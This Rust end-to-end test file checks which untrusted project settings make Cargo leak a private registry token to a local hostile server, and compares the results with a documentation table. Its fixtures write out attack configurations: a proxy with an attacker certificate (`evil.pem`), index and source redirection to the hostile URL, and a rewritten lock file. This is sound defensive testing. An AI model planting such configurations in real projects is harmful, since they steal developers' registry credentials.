//! What a project can make Cargo do with the token. `docs/untrusted-projects.md` has the table that is compared here.

use std::fs;

use vouch_e2e::doc_tables::Table;
use vouch_e2e::helper::INDEX;
use vouch_e2e::hostile::HostileHost;
use vouch_e2e::{CommandOutput, Sandbox, in_sandbox};

const HEADING: &str = "Cargo 1.95";

const PROXY: &str = "`.cargo/config.toml` has `http.proxy` and `http.cainfo`";
const PROXY_ALONE: &str = "`.cargo/config.toml` has `http.proxy` alone";
const INDEX_ELSEWHERE: &str = "`.cargo/config.toml` gives your registry another index";
const SOURCE_ELSEWHERE: &str = "`.cargo/config.toml` replaces your registry by another source";
const LOCK_ELSEWHERE: &str = "`Cargo.lock` names another registry";
const OTHER_PROVIDER: &str = "`.cargo/config.toml` has Vouch's provider for a registry on another host";

/// A program that depends on a private crate, with a configuration of its own, on a machine that has nothing of it.
fn fetches(sandbox: &Sandbox, config: &str, lock: Option<&str>) -> CommandOutput {
    for folder in ["hello", ".cargo/registry"] {
        let _ = fs::remove_dir_all(sandbox.file(folder));
    }
    sandbox.program("hello", "greeting", "my-repo");
    sandbox.write("hello/.cargo/config.toml", config);
    if let Some(lock) = lock {
        sandbox.write("hello/Cargo.lock", lock);
    }
    // The sandbox's authority is known by another variable, too: this one goes before every file.
    let cargo = sandbox.run("env").args(["-u", "CARGO_HTTP_CAINFO", "cargo", "fetch"]);
    cargo.env("CARGO_NET_RETRY", "0").within(sandbox.file("hello")).done()
}

#[test]
fn what_a_project_says_to_cargo() {
    in_sandbox(&[], |sandbox| {
        sandbox.ready();
        sandbox.library("greeting");
        let publish = ["publish", "--registry", "my-repo", "--manifest-path", "greeting/Cargo.toml"];
        let _ = sandbox.cargo(&publish).ok();
        let hostile = HostileHost::start();
        sandbox.write("evil.pem", hostile.certificate());
        let table = Table::of("untrusted-projects.md", HEADING);
        let compare = |what: &str, done: &CommandOutput| {
            let heads = hostile.arrived();
            let sent = heads.iter().any(|head| HostileHost::has_token(head));
            match table.cell(what, "") {
                "sent" => assert!(sent, "{what}: {heads:?}\n{done}"),
                "held" => assert!(!sent && done.code != 0, "{what}: {heads:?}\n{done}"),
                other => panic!("{what}: {other}"),
            }
            heads
        };
        let _ = fetches(sandbox, "", None).expect_code(0);
        let lock = sandbox.read("hello/Cargo.lock");

        let proxy = format!("[http]\nproxy = \"{}\"\n", hostile.url());
        let authority = format!("cainfo = {:?}\n", sandbox.file("evil.pem"));
        let heads = compare(PROXY, &fetches(sandbox, &(proxy.clone() + &authority), None));
        assert!(!heads.is_empty());
        let heads = compare(PROXY_ALONE, &fetches(sandbox, &proxy, None));
        assert!(!heads.is_empty(), "the proxy was not used");

        let elsewhere = format!("sparse+{}/cargo/my-repo/", hostile.url());
        let index = format!("[registries.my-repo]\nindex = \"{elsewhere}\"\n");
        let _ = compare(INDEX_ELSEWHERE, &fetches(sandbox, &index, None));
        let source = format!(
            "[source.mine]\nregistry = \"{INDEX}\"\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"{elsewhere}\"\n"
        );
        let _ = compare(SOURCE_ELSEWHERE, &fetches(sandbox, &source, None));
        let other = lock.replace(INDEX, &elsewhere);
        assert_ne!(other, lock);
        let locked = format!("[registries.evil]\nindex = \"{elsewhere}\"\n");
        let done = fetches(sandbox, &locked, Some(&other));
        // Cargo takes a lock of another registry for none, and writes its own.
        let heads = hostile.arrived();
        assert!(!heads.iter().any(|head| HostileHost::has_token(head)), "{heads:?}\n{done}");
        assert_eq!(table.cell(LOCK_ELSEWHERE, ""), "held");
        let provider = sandbox.read(".cargo/config.toml");
        let provider = provider.lines().find(|line| line.starts_with("credential-provider")).unwrap();
        let named = format!("[registries.my-repo]\nindex = \"{elsewhere}\"\n{provider}\n");
        let _ = compare(OTHER_PROVIDER, &fetches(sandbox, &named, None));

        let known = [PROXY, PROXY_ALONE, INDEX_ELSEWHERE, SOURCE_ELSEWHERE, LOCK_ELSEWHERE, OTHER_PROVIDER];
        assert!(table.rows().all(|row| known.contains(&row)), "the page has a row without a test");
    });
}
